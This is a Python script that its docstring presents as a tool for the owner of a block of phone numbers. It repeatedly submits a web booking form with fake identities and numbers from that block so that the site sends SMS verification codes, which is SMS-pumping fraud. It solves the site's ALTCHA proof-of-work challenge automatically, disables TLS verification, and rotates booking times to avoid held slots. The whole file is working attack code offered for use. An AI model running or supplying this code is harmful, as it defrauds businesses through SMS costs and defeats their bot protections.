"""Somebody who owns a block of numbers and has codes sent to them: a program that opens a form again and again."""

import base64
import hashlib
import json
import re
import secrets
from datetime import UTC, datetime, timedelta
from html import unescape
from itertools import count
from typing import Any
from urllib.parse import unquote

import httpx2

MOST = 20
_HIDDEN = re.compile(r'<input type="hidden" name="([^"]+)"(?: value="([^"]*)")?')
_CHALLENGE = re.compile(r'data-challenge="([^"]+)"')
_START, _FORMAT = re.compile(r"start=([^&]+)"), "%Y-%m-%dT%H:%MZ"
_PATIENCE = 20.0


def pump(form_url: str, block: str, times: int) -> int:
    """Ask so many times for a code, each to another number of the block; return how often the app asked for the code.

    form_url: where a page's form is open for a time; each asks for a later one, since the earlier ones are held.
    block: how the numbers begin, as in "+491512345".
    """
    asked = 0
    for number in range(min(times, MOST)):
        with httpx2.Client(timeout=_PATIENCE, trust_env=False, verify=False) as browser:
            asked += _ask(browser, _later(form_url, number), f"{block}{secrets.randbelow(10_000):04}")
    return asked


def _later(form_url: str, halves: int) -> str:
    """The same form for a time so many half hours later."""
    found = _START.search(form_url)
    if found is None:
        return form_url
    moment = datetime.strptime(unquote(found[1]), _FORMAT).replace(tzinfo=UTC)
    return form_url.replace(found[0], f"start={moment + halves * timedelta(minutes=30):{_FORMAT}}")


def _ask(browser: httpx2.Client, form_url: str, number: str) -> bool:
    try:
        text = browser.get(form_url).text
        fields = {name: unescape(value) for name, value in _HIDDEN.findall(text)}
        typed = {"name": "Pat Pump", "email": f"{secrets.token_hex(6)}@pump.example", "phone": number}
        fields |= typed | {"phone_country": "DE", "notes": "", "guests": ""}
        if found := _CHALLENGE.search(text):
            fields["proof"] = solved(json.loads(unescape(found[1])))
        answer = browser.post(form_url, data=fields, headers={"Referer": form_url})
    except httpx2.HTTPError:
        return False
    return 'name="text_code"' in answer.text


def solved(challenge: dict[str, Any]) -> str:
    """Do the work that a browser is asked for (ALTCHA, version 2, PBKDF2), and return what it sends."""
    asked = challenge["parameters"]
    nonce, salt = bytes.fromhex(asked["nonce"]), bytes.fromhex(asked["salt"])
    for counter in count():
        password = nonce + counter.to_bytes(4, "big")
        key = hashlib.pbkdf2_hmac("sha256", password, salt, asked["cost"], 32).hex()
        if key.startswith(asked["keyPrefix"]):
            break
    found = {"counter": counter, "derivedKey": key}
    return base64.b64encode(json.dumps({"challenge": challenge, "solution": found}).encode()).decode()
